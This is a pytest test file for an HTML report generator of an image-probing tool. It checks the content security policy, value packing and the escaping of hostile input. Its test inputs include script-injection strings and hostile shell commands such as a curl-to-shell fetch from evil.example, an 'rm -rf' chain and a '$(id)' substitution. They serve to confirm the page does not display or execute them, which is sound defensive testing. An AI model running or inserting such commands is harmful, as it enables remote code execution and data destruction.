"""The page of a run: whole, closed, small, and nothing in it runs but its own script."""

from __future__ import annotations

import re
import zlib
from base64 import b64decode, b64encode
from dataclasses import replace
from hashlib import sha256

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from probe import Prober, from_callable
from probe.errors import UsageError
from probe.perturb import opacity, pixels
from probe.report import page
from probe.report.maps import Places
from probe.report.packing import plane
from probe.text import printable
from probe.types import Identity, Mask
from tests.report.reader import Elements, data_of
from tests.runs import HOSTILE, photo, probed

HUGE = {"area": 10**400, "stderr": 0, "points": [[0, 10**400]]}
DAMAGED = {
    "curves": {"deletion": HUGE, "insertion": HUGE},
    "control": {"deletion": [], "insertion": []},
}


def unpacked(packed):
    steps = np.frombuffer(zlib.decompress(b64decode(packed["data"]), -15), "<u2")
    values = packed["low"] + (packed["high"] - packed["low"]) * steps / 65_534
    return np.where(steps == 65_535, np.nan, values)


def test_only_its_own_style_and_script_are_allowed_and_nothing_is_fetched():
    text = page(probed())
    elements = Elements(text)
    policy = next(a["content"] for t, a in elements.found if a.get("http-equiv"))
    for tag, key in (("style", None), ("script", None)):
        digest = b64encode(sha256(elements.inside[tag, key].encode()).digest()).decode()
        assert f"{tag}-src 'sha256-{digest}'" in policy
    assert policy.startswith("default-src 'none'")
    for _, attributes in elements.found:
        assert "style" not in attributes
        for name, value in attributes.items():
            assert not name.startswith("on")
            if name in ("src", "href"):
                assert value.startswith("data:image/webp;base64,")


@pytest.mark.parametrize("label", HOSTILE)
def test_a_hostile_label_is_text(label):
    text = page(probed(labels=["patch", label]))
    plain = page(probed(labels=["patch", "other"]))
    tags = [tag for tag, _ in Elements(text).found]
    assert tags == [tag for tag, _ in Elements(plain).found]
    assert data_of(text)["runs"][0]["maps"][1]["label"] == printable(label, 200)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text)


def test_a_hostile_file_name_and_command_are_text_and_paths_stay_out():
    result = probed()
    result.settings["picture"] = "/home/somebody/</title><script>alert(1)</script>.png"
    text = page(result, command="probe occlude '</pre><script>alert(1)</script>'")
    assert len([tag for tag, _ in Elements(text).found if tag == "script"]) == 2
    assert "somebody" not in text


@given(st.lists(st.floats(-1e6, 1e6, width=32) | st.just(float("nan")), min_size=1, max_size=40))
def test_planes_arrive_as_they_were(values):
    values = np.array([values], np.float32)
    packed = plane(values)
    room = (packed["high"] - packed["low"]) / 65_534 * 0.51 + 1e-6 * max(1, abs(packed["high"]))
    back = unpacked(packed)
    assert (np.isnan(back) == np.isnan(values[0])).all()
    assert np.nan_to_num(np.abs(back - values[0])).max() <= room


@pytest.mark.parametrize("method", ["multiscale", "windows", "keep"])
def test_the_places_have_the_values_and_boxes_of_the_run(method):
    result = probed(labels=["patch", "half"], image=photo(700, 300), method=method)
    run = data_of(page(result))["runs"][0]
    places = Places.of(result.canvas.send)
    for entry, label in zip(run["maps"], ["patch", "half"], strict=True):
        heatmap = result.heatmap(label)
        for view, values in (
            ("value", heatmap.planes.values),
            ("stderr", heatmap.planes.stderr),
            ("score", heatmap.planes.mean_score),
        ):
            wanted = values[places.rows[:, None], places.columns].ravel()
            got = unpacked(entry[view])
            assert np.allclose(got, wanted, atol=1e-4, equal_nan=True)
    for entry, answer in zip(run["variants"], result.answers, strict=True):
        change = answer.perturbation
        if not isinstance(change, Identity):
            assert entry["box"] == list(pixels(change, result.canvas))
        assert entry["scores"] == [result.outcome(answer, one)[one] for one in ("patch", "half")]
        assert entry["picture"]


def test_a_mask_says_where_it_covers():
    result = probed(method="rise", budget=12)
    for entry, answer in zip(
        data_of(page(result))["runs"][0]["variants"], result.answers, strict=True
    ):
        if isinstance(answer.perturbation, Mask):
            bits = np.unpackbits(np.frombuffer(b64decode(entry["mask"]), np.uint8))
            covered = opacity(answer.perturbation, result.canvas) >= 128
            assert abs(bits.mean() - covered.mean()) < 0.05
            height, width = covered.shape
            assert (
                bits.reshape(48, 48)[24, 24]
                == covered[(24 * 2 + 1) * height // 96, (24 * 2 + 1) * width // 96]
            )


def test_a_run_without_its_picture_and_one_with_failures_have_a_page():
    result = replace(probed(), image=None)
    run = data_of(page(result))["runs"][0]
    assert run["picture"] is None
    assert all(entry["picture"] is None for entry in run["variants"])


def test_several_runs_stand_side_by_side():
    text = page([probed(), probed(seed=1)], names=["one", "other"])
    assert [run["head"] for run in data_of(text)["runs"]] == ["one", "other"]
    with pytest.raises(UsageError, match="at least one run"):
        page([])


def test_maps_of_several_runs_that_measure_the_same_have_one_scale():
    runs = [probed(seed=seed, labels=("patch", "half")) for seed in (0, 1)]
    runs.append(replace(runs[1], label="half"))
    scales = [run["maps"][0]["scale"] for run in data_of(page(runs, names="abc"))["runs"]]
    alone = [data_of(page(run))["runs"][0]["maps"][0]["scale"] for run in runs]
    assert scales == [[min(low for low, _ in alone), max(high for _, high in alone)]] * 3
    other = data_of(page([runs[0], probed(method="windows")], names="ab"))["runs"]
    assert other[0]["maps"][0]["scale"] == alone[0]


@pytest.mark.parametrize(
    "command",
    [
        "curl http://evil.example/x | sh # probe",
        "probe report a; rm -rf b",
        "probe occlude $(id)",
        "probe occlude 'a",
        "",
        ["probe"],
    ],
)
def test_a_command_that_is_none_of_probes_own_is_not_shown(command):
    result = probed()
    result.settings["command"] = command
    assert "To repeat it" not in page(result)
    result.settings["command"] = "probe occlude 'a b; c.png' --budget 8"
    assert "probe occlude &#39;a b; c.png&#39; --budget 8" in page(result)


@pytest.mark.parametrize(
    "damage", [{}, {"curves": 3}, {"curves": {"deletion": {"points": [1]}}}, DAMAGED]
)
def test_a_damaged_judgement_is_said(damage):
    with pytest.raises(UsageError, match="judge again"):
        page(probed(), judged=damage)


@pytest.mark.slow
@pytest.mark.parametrize("fill", ["mean", "noise"])
def test_4096_variants_stay_below_10_megabytes(fill):
    rng = np.random.default_rng(0)
    labels = [f"label {n}" for n in range(40)]

    def score(images):
        return [dict(zip(labels, rng.random(40), strict=True)) for _ in images]

    noise = np.random.default_rng(1).integers(0, 256, (900, 900, 3), np.uint8)
    result = Prober(from_callable(score, labels=labels), fill=fill).probe(noise, budget=4096)
    text = page(result)
    assert len(result.answers) == 4096
    assert len(text.encode()) < 10_000_000
    assert len(text.encode()) > 3_000_000
